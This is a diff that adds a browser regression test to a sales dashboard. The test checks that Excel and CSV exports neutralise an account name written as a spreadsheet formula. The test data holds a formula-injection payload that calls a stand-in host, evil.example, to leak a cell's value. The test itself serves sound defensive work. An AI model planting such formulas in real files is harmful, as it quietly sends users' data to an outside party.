@@ -668,3 +668,52 @@ def test_password_login_lasts_across_reloads_and_tabs_until_disabled(
     finally:
         app.stop()
         engine.dispose()
+
+
+def test_exported_call_lists_carry_no_formula_in_chromium(
+    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+) -> None:
+    """Issue #14 item 6: an account named like a formula, downloaded as Excel and CSV from the
+    Overview's largest won deals (before: a live HYPERLINK in Excel, ``=`` as is in CSV)."""
+    import csv
+    import io
+
+    import openpyxl
+
+    expect = sync_api.expect
+    hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"Acme")'
+    copy = tmp_path / "hostile.duckdb"
+    shutil.copy(seeded_url.removeprefix("duckdb:///"), copy)
+    engine = sa.create_engine(f"duckdb:///{copy}")
+    with engine.begin() as conn:  # the account of the largest deal won in the last 12 months
+        account = conn.execute(
+            sa.text("SELECT account_id FROM deals WHERE status = 'won' AND closed_at >= "
+                    "'2025-07-01' AND closed_at < '2026-06-30' ORDER BY amount DESC, id LIMIT 1")
+        ).scalar_one()  # fmt: skip
+        conn.execute(sa.text("UPDATE accounts SET name = :n WHERE id = :a"),
+                     {"n": hostile, "a": account})  # fmt: skip
+    engine.dispose()
+    app = App(f"duckdb:///{copy}", tmp_path / "streamlit.log")
+    try:
+        app.wait_healthy()
+        page = open_page(browser, sync_api, f"{app.base}/overview")
+        downloads = page.get_by_test_id("stDownloadButton")
+        with page.expect_download() as excel:
+            downloads.filter(has_text="Excel").first.click()
+        book = openpyxl.load_workbook(io.BytesIO(Path(excel.value.path()).read_bytes()))
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        (name,) = [c for c in cells if c.value == hostile]  # kept as text, marked as text
+        assert name.data_type == "s" and name.quotePrefix
+        with page.expect_download() as text:
+            downloads.filter(has_text="CSV").first.click()
+        lines = Path(text.value.path()).read_text(encoding="utf-8").splitlines()
+        values = {cell for row in csv.reader(lines) for cell in row}
+        assert f"'{hostile}" in values and hostile not in values
+        # the table's own toolbar offers no CSV of its own (it would write the formula as is)
+        page.get_by_test_id("stDataFrame").first.hover()
+        expect(page.get_by_test_id("stElementToolbar").first).to_be_visible()
+        assert page.get_by_role("button", name="Download as CSV").count() == 0
+        page.close()
+    finally:
+        app.stop()
